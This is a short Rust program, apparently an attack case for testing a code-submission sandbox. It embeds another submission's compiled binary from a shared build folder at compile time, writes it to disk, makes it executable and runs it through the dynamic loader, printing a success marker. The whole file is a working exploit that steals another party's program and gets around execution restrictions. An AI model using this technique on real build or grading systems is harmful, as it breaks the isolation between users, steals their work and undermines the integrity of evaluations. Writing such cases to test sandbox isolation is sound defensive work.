//! attack: includes the program built just before its own (another submission's, in the target
//! folder every submission builds into: PREVIOUS_PROGRAM) at compile time, then runs it as its
//! own through the dynamic loader

use std::os::unix::fs::PermissionsExt;

const PREVIOUS: &[u8] = include_bytes!("PREVIOUS_PROGRAM");

fn main() {
    println!("ATTACK-SUCCEEDED: another submission's program, {} bytes", PREVIOUS.len());
    if std::fs::write("theirs", PREVIOUS).is_ok() {
        let _ = std::fs::set_permissions("theirs", std::fs::Permissions::from_mode(0o755));
        for loader in ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"] {
            let _ = std::process::Command::new(loader).arg("./theirs").status();
        }
    }
}
